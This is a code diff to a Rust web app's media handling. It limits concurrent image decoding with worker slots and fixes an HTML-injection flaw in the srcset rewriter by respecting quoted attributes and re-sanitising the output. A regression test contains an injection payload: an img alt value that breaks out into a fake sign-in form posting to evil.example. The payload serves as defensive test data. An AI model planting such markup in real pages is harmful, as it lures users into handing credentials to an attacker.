@@ -44,6 +44,9 @@ pub struct MediaSettings {
     pub dir: PathBuf,
     /// The largest upload accepted, in bytes (`FOLIO_MEDIA_MAX_BYTES`).
     pub max_bytes: u64,
+    /// Slots for decoding and resizing images (`FOLIO_IMAGE_WORKERS`): a decoded image may
+    /// take hundreds of megabytes ([`MAX_DECODE_BYTES`]), so only this many are held at once.
+    pub workers: crate::ssr::slots::WorkSlots,
 }
 
 /// Why an upload was refused.
@@ -206,6 +209,16 @@ pub async fn upload(
         return Err(AppError::Forbidden);
     }
     let max = state.media.max_bytes;
+    // Held from the decode until the resized copies are made (in the background).
+    let slot = state.media.workers.take().await.map_err(|_| {
+        tracing::info!(
+            user_id = actor.id,
+            "upload refused: every image slot is busy"
+        );
+        AppError::Busy {
+            retry_after_secs: 5,
+        }
+    })?;
     let (bytes, checked) = tokio::task::spawn_blocking(move || {
         let checked = check(&bytes, max);
         (bytes, checked)
@@ -273,6 +286,7 @@ pub async fn upload(
             file_name.clone(),
             checked,
             widths,
+            slot,
         ));
     }
     Ok(item(row))
@@ -286,13 +300,15 @@ async fn write_file(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
 }
 
 /// Makes the resized copies of an upload (in a blocking thread: resizing takes a while) and
-/// records their widths. GIFs keep only their original (resizing would drop the animation).
+/// records their widths, then frees the upload's image `slot`. GIFs keep only their original
+/// (resizing would drop the animation).
 async fn make_variants(
     state: AppState,
     id: i64,
     file_name: String,
     checked: Checked,
     widths: Vec<u32>,
+    slot: tokio::sync::OwnedSemaphorePermit,
 ) {
     let dir = state.media.dir.clone();
     let name = file_name.clone();
@@ -322,6 +338,7 @@ async fn make_variants(
     })
     .await
     .unwrap_or_default();
+    drop(slot);
     if made.is_empty() {
         return;
     }
@@ -375,7 +392,7 @@ pub fn add_srcset(html: &str, widths: &HashMap<String, u32>) -> String {
     let mut rest = html;
     while let Some(start) = rest.find("<img ") {
         out.push_str(&rest[..start]);
-        let Some(end) = rest[start..].find('>') else {
+        let Some(end) = tag_end(&rest[start..]) else {
             break;
         };
         let tag = &rest[start..start + end + 1];
@@ -384,6 +401,21 @@ pub fn add_srcset(html: &str, widths: &HashMap<String, u32>) -> String {
     }
     out.push_str(rest);
     out
+}
+
+/// The index of the `>` that ends the tag `tag` starts with: the first one outside a quoted
+/// attribute value (sanitised HTML double-quotes every value and escapes `"` inside it, but
+/// leaves `>` as it is).
+fn tag_end(tag: &str) -> Option<usize> {
+    let mut quoted = false;
+    for (i, b) in tag.bytes().enumerate() {
+        match b {
+            b'"' => quoted = !quoted,
+            b'>' if !quoted => return Some(i),
+            _ => {}
+        }
+    }
+    None
 }
 
 fn attribute<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
@@ -466,7 +498,7 @@ pub fn referenced_uploads(html: &str) -> Vec<String> {
     let mut names = Vec::new();
     let mut rest = html;
     while let Some(start) = rest.find("<img ") {
-        let Some(end) = rest[start..].find('>') else {
+        let Some(end) = tag_end(&rest[start..]) else {
             break;
         };
         if let Some(file) =
@@ -558,7 +590,10 @@ pub async fn delete(state: &AppState, actor: &AccountRow, id: i64) -> Result<(),
     Ok(())
 }
 
-/// `html` with `srcset`s for the uploads it shows (see [`add_srcset`]), looking their widths up.
+/// `html` (sanitised) with `srcset`s for the uploads it shows (see [`add_srcset`]), looking
+/// their widths up, and sanitised again: [`add_srcset`] edits markup as text, and an attribute
+/// value holding `>` (legal in sanitised HTML) would otherwise let text of the post become
+/// markup. The allow-list keeps the `srcset`s it adds (uploads only).
 ///
 /// # Errors
 /// The driver's error.
@@ -568,7 +603,14 @@ pub async fn responsive(conn: crate::ssr::db::Conn<'_>, html: &str) -> Result<St
         return Ok(html.to_string());
     }
     let widths = queries::widths(conn, &names).await?;
-    Ok(add_srcset(html, &widths))
+    Ok(with_srcset(html, &widths))
+}
+
+/// [`add_srcset`], then the sanitiser again: whatever the text edit did to markup it did not
+/// expect (an unescaped `>` in an attribute value, as older serialisers and hand-written HTML
+/// have), the result is within the allow-list.
+pub fn with_srcset(html: &str, widths: &HashMap<String, u32>) -> String {
+    crate::ssr::content::sanitize::sanitize_html(&add_srcset(html, widths))
 }
 
 #[cfg(test)]
@@ -627,5 +669,19 @@ mod tests {
         );
         let small = HashMap::from([("2026/11/a.jpg".to_string(), 600)]);
         assert_eq!(add_srcset(html, &small), html);
+    }
+
+    #[test]
+    fn attribute_text_never_becomes_markup() {
+        let widths = HashMap::from([("2026/11/a.jpg".to_string(), 2400)]);
+        // Legal HTML: `>` need not be escaped inside a quoted attribute value.
+        let html = r#"<p><img src="/media/2026/11/a.jpg" alt="x><form action=https://evil.example/><button>Sign in</button></form>"></p>"#;
+        let out = with_srcset(html, &widths);
+        assert!(!out.contains("<form") && !out.contains("<button"), "{out}");
+        assert!(
+            out.contains("srcset=\"/media/2026/11/a-800w.jpg 800w"),
+            "{out}"
+        );
+        assert_eq!(with_srcset(&out, &widths), out, "idempotent");
     }
 }
